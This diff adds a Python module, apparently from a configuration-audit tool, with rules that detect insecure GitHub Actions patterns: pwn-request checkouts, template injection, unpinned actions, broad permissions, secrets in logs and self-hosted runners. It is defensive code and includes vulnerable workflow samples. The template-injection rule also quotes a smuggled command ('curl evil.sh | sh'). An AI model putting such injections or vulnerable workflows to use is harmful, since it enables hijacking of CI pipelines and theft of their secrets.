@@ -1,0 +1,235 @@
+"""GitHub Actions workflow checks: untrusted checkouts, template injection, unpinned actions, permissions,
+secrets in logs, self-hosted runners on public pull-request events."""
+
+from __future__ import annotations
+
+from typing import Any, Iterator
+
+import re2
+
+from bastion.config_audit.base import A01, A03, A05, A08, Emitter, rule
+from bastion.config_audit.yamldoc import YamlDoc, get
+from bastion.model import Confidence, Finding
+
+WORKFLOW = ("yaml",)
+_HARDENING = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+_PWN = "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
+
+UNTRUSTED_CHECKOUT = rule(
+    "untrusted-checkout", "Privileged workflow checks out and runs pull request code", "critical", "high",
+    (829, 94), A08, WORKFLOW,
+    what="A `pull_request_target` or `workflow_run` workflow checks out the pull request's head and then runs "
+         "commands or local actions.",
+    why="These triggers run with the base repository's secrets and a write token; the PR's build scripts, "
+        "package.json or Makefile are attacker code, which then owns the repository (a 'pwn request').",
+    vulnerable="on: pull_request_target\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
+               "      - uses: actions/checkout@v4\n        with:\n"
+               "          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm install && npm test",
+    fixed="on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n"
+          "    steps:\n      - uses: actions/checkout@v4\n      - run: npm install && npm test",
+    references=(_PWN, _HARDENING),
+    fix_guidance="Build untrusted code under `pull_request` (no secrets); pass results to a privileged "
+                 "`workflow_run` job as artifacts treated as data.")
+
+TEMPLATE_INJECTION = rule(
+    "template-injection", "Attacker-controlled expression in a run script", "high", "high", (94, 78), A03,
+    WORKFLOW,
+    what="A `${{ }}` expression with attacker-controlled data (issue or PR title and body, comment body, head "
+         "branch name, commit message...) inside `run:` or an `actions/github-script` script.",
+    why="The expression is pasted into the script before the shell sees it: a PR titled "
+        "`\"; curl evil.sh | sh #` runs commands with the workflow's token and secrets.",
+    vulnerable='- run: echo "Title: ${{ github.event.issue.title }}"',
+    fixed='- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo "Title: $TITLE"',
+    references=(_HARDENING + "#understanding-the-risk-of-script-injections",
+                "https://securitylab.github.com/resources/github-actions-untrusted-input/"),
+    fix_guidance="Pass the value through an environment variable and quote it in the shell.")
+
+UNPINNED_ACTION = rule(
+    "unpinned-action", "Third-party action not pinned to a commit SHA", "medium", "high", (829, 1357), A08,
+    WORKFLOW,
+    what="`uses: owner/action@v1` (a tag or branch) for an action outside the trusted owners (by default "
+         "`actions` and `github`), or a `docker://` image without a digest.",
+    why="Tags and branches move: whoever controls the action's repository (or steals its maintainer's token, "
+        "as in tj-actions/changed-files) runs code in your pipeline with your secrets.",
+    vulnerable="- uses: tj-actions/changed-files@v44",
+    fixed="- uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67 # v44.5.2",
+    references=(_HARDENING + "#using-third-party-actions",),
+    fix_guidance="Pin the full 40-character commit SHA (with the version in a comment); let Dependabot update it.")
+
+EXCESSIVE_PERMISSIONS = rule(
+    "excessive-permissions", "Workflow token with broad permissions", "medium", "medium", (250, 272), A01,
+    WORKFLOW,
+    what="`permissions: write-all`, or a workflow with no `permissions` block at all (the token then gets the "
+         "repository's default, often read/write on everything).",
+    why="Any compromised step (a dependency, an action, an injection) acts with every permission the token has.",
+    vulnerable="on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make",
+    fixed="on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n"
+          "    steps:\n      - run: make",
+    references=("https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/"
+                "controlling-permissions-for-github_token",),
+    fix_guidance="Declare `permissions: contents: read` at the top and grant more per job only where needed.")
+
+SECRET_IN_LOGS = rule(
+    "secret-in-logs", "Secret printed by a workflow step", "high", "medium", (532,), A05, WORKFLOW,
+    what="A `run:` that echoes or prints `${{ secrets.* }}`, or serialises all secrets with `toJSON(secrets)`.",
+    why="Log masking only hides the exact secret string: any transformation (base64, a substring, JSON "
+        "quoting) shows it to everyone who can read the logs.",
+    vulnerable='- run: echo "token=${{ secrets.DEPLOY_TOKEN }}"',
+    fixed='- run: echo "$DEPLOY_TOKEN" | deploy --token-stdin\n  env:\n    DEPLOY_TOKEN: ${{ secrets.DEPLOY_TOKEN }}',
+    references=(_HARDENING + "#using-secrets",))
+
+SELF_HOSTED = rule(
+    "self-hosted-runner-untrusted", "Self-hosted runner on pull-request events", "high", "medium", (284, 829), A05,
+    WORKFLOW,
+    what="A job on a `self-hosted` runner in a workflow triggered by pull requests or issue comments.",
+    why="On a public repository anyone can open a pull request; its code runs on your machine, which is not "
+        "wiped between jobs and sits inside your network.",
+    vulnerable="on: pull_request\njobs:\n  test:\n    runs-on: self-hosted",
+    fixed="on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest",
+    references=("https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/"
+                "about-self-hosted-runners#self-hosted-runner-security",))
+
+RULES = (UNTRUSTED_CHECKOUT, TEMPLATE_INJECTION, UNPINNED_ACTION, EXCESSIVE_PERMISSIONS, SECRET_IN_LOGS,
+         SELF_HOSTED)
+
+_PRIVILEGED_TRIGGERS = {"pull_request_target", "workflow_run"}
+_PR_TRIGGERS = {"pull_request", "pull_request_target", "issue_comment", "pull_request_review",
+                "pull_request_review_comment", "discussion", "discussion_comment", "issues"}
+_EXPRESSION = re2.compile(r"\$\{\{([^}]*)\}\}")
+_UNTRUSTED = re2.compile(
+    r"github\.head_ref|github\.event\.(issue|pull_request|discussion)\.(title|body)"
+    r"|github\.event\.(comment|review|review_comment|discussion_comment)\.body"
+    r"|github\.event\.pages\.[^.\s]+\.page_name"
+    r"|github\.event\.(commits\.[^.\s]+|head_commit|workflow_run\.head_commit)\.(message|author\.(email|name))"
+    r"|github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)"
+    r"|github\.event\.workflow_run\.(head_branch|display_title|pull_requests)"
+    r"|github\.event\.(release\.(name|body)|issue\.labels|pull_request\.labels)")
+_PR_HEAD = re2.compile(r"github\.event\.pull_request\.head|github\.head_ref|workflow_run\.head_(sha|branch)"
+                       r"|refs/pull/|github\.event\.number|steps\.[\w-]+\.outputs")
+_SHA = re2.compile(r"^[0-9a-f]{40}$")
+_PRINT = re2.compile(r"\b(echo|printf|print|Write-Host|Write-Output|console\.log)\b")
+
+
+def triggers(data: dict) -> set[str]:
+    """Event names of a workflow's ``on:`` (PyYAML reads the bare key ``on`` as True)."""
+    on = data.get("on", data.get(True))
+    if isinstance(on, str):
+        return {on}
+    if isinstance(on, list):
+        return {str(e) for e in on}
+    if isinstance(on, dict):
+        return {str(e) for e in on}
+    return set()
+
+
+def check(emit: Emitter, doc: YamlDoc, trusted_owners: tuple[str, ...]) -> Iterator[Finding]:
+    data = doc.data
+    if not isinstance(data, dict) or not isinstance(data.get("jobs"), dict):
+        return
+    events = triggers(data)
+    if data.get("permissions") == "write-all":
+        yield emit(EXCESSIVE_PERMISSIONS, "workflow grants permissions: write-all", doc.line(("permissions",)),
+                   confidence=Confidence.HIGH)
+    tainted_env = _tainted_env(data.get("env"))
+    for job_id, job in data["jobs"].items():
+        if not isinstance(job, dict):
+            continue
+        at = ("jobs", job_id)
+        perms = job.get("permissions")
+        if perms == "write-all":
+            yield emit(EXCESSIVE_PERMISSIONS, f"job {job_id} grants permissions: write-all",
+                       doc.line(at + ("permissions",)), confidence=Confidence.HIGH)
+        elif "permissions" not in data and perms is None and "uses" not in job:
+            yield emit(EXCESSIVE_PERMISSIONS, f"job {job_id} runs with the default token permissions "
+                                              "(no permissions block)", doc.line(at))
+        if events & _PR_TRIGGERS and _self_hosted(job.get("runs-on")):
+            yield emit(SELF_HOSTED, f"job {job_id} runs pull-request events on a self-hosted runner",
+                       doc.line(at + ("runs-on",)))
+        if isinstance(job.get("uses"), str):
+            yield from _uses(emit, doc, at + ("uses",), job["uses"], trusted_owners)
+        steps = job.get("steps")
+        if isinstance(steps, list):
+            job_env = tainted_env | _tainted_env(job.get("env"))
+            yield from _steps(emit, doc, at, steps, events, job_env, trusted_owners)
+
+
+def _self_hosted(runs_on: Any) -> bool:
+    labels = runs_on if isinstance(runs_on, list) else get(runs_on, "labels", default=runs_on)
+    labels = labels if isinstance(labels, list) else [labels]
+    return any(isinstance(label, str) and label.lower() == "self-hosted" for label in labels)
+
+
+def _tainted_env(env: Any) -> set[str]:
+    """Names of env variables whose value is built from attacker-controlled expressions."""
+    if not isinstance(env, dict):
+        return set()
+    return {str(k) for k, v in env.items() if isinstance(v, str) and _UNTRUSTED.search(v)}
+
+
+def _steps(emit: Emitter, doc: YamlDoc, at: tuple, steps: list, events: set[str], job_env: set[str],
+           trusted_owners: tuple[str, ...]) -> Iterator[Finding]:
+    checkout_line = 0
+    for index, step in enumerate(steps):
+        if not isinstance(step, dict):
+            continue
+        where = at + ("steps", index)
+        uses = step.get("uses")
+        if isinstance(uses, str):
+            yield from _uses(emit, doc, where + ("uses",), uses, trusted_owners)
+            if uses.split("@")[0].lower() == "actions/checkout" and events & _PRIVILEGED_TRIGGERS:
+                ref = str(get(step, "with", "ref", default="")) + str(get(step, "with", "repository", default=""))
+                if _PR_HEAD.search(ref):
+                    checkout_line = doc.line(where + ("with", "ref"))
+        env = job_env | _tainted_env(step.get("env"))
+        scripts = [("run", step.get("run"))]
+        if isinstance(uses, str) and uses.lower().startswith("actions/github-script"):
+            scripts.append(("script", get(step, "with", "script")))
+        for key, script in scripts:
+            if isinstance(script, str):
+                path = where + (key,) if key == "run" else where + ("with", "script")
+                yield from _script(emit, doc, path, script, env)
+        runs_code = "run" in step or (isinstance(uses, str) and uses.startswith("./"))
+        if checkout_line and runs_code:
+            yield emit(UNTRUSTED_CHECKOUT, f"{'/'.join(sorted(events & _PRIVILEGED_TRIGGERS))} workflow checks out "
+                                           "the pull request head and then runs it", checkout_line)
+            checkout_line = 0
+
+
+def _script(emit: Emitter, doc: YamlDoc, path: tuple, script: str, tainted_env: set[str]) -> Iterator[Finding]:
+    start = doc.value_line(path)
+    for offset, text in enumerate(script.splitlines()):
+        line = _locate(emit, start, offset, text)
+        for match in _EXPRESSION.finditer(text):
+            expression = match.group(1).strip()
+            hit = _UNTRUSTED.search(expression)
+            env_hit = next((n for n in tainted_env if f"env.{n}" in expression), None)
+            if hit or env_hit:
+                what = hit.group(0) if hit else f"env.{env_hit}"
+                yield emit(TEMPLATE_INJECTION, f"${{{{ {what} }}}} is expanded into the script", line)
+        if "secrets." in text or "toJSON(secrets)" in text:
+            printed = _PRINT.search(text) and "|" not in text.split("secrets.", 1)[1] and ">" not in text
+            if "toJSON(secrets)" in text or printed:
+                yield emit(SECRET_IN_LOGS, "a secret is written to the job log", line)
+
+
+def _locate(emit: Emitter, start: int, offset: int, text: str) -> int:
+    """The file line of the script's ``offset``-th line: block scalars begin on the line after the key."""
+    wanted = text.strip()
+    for line in (start + offset, start + offset + 1):
+        if wanted and wanted in emit.file.line(line):
+            return line
+    return start + offset
+
+
+def _uses(emit: Emitter, doc: YamlDoc, path: tuple, uses: str, trusted_owners: tuple[str, ...]) -> Iterator[Finding]:
+    if uses.startswith("./"):
+        return
+    if uses.startswith("docker://"):
+        if "@sha256:" not in uses:
+            yield emit(UNPINNED_ACTION, f"{uses} is not pinned to a digest", doc.line(path))
+        return
+    name, _, ref = uses.partition("@")
+    owner = name.split("/", 1)[0].lower()
+    if owner in trusted_owners or _SHA.match(ref):
+        return
+    yield emit(UNPINNED_ACTION, f"{name} is pinned to '{ref or 'nothing'}', not a commit SHA", doc.line(path))
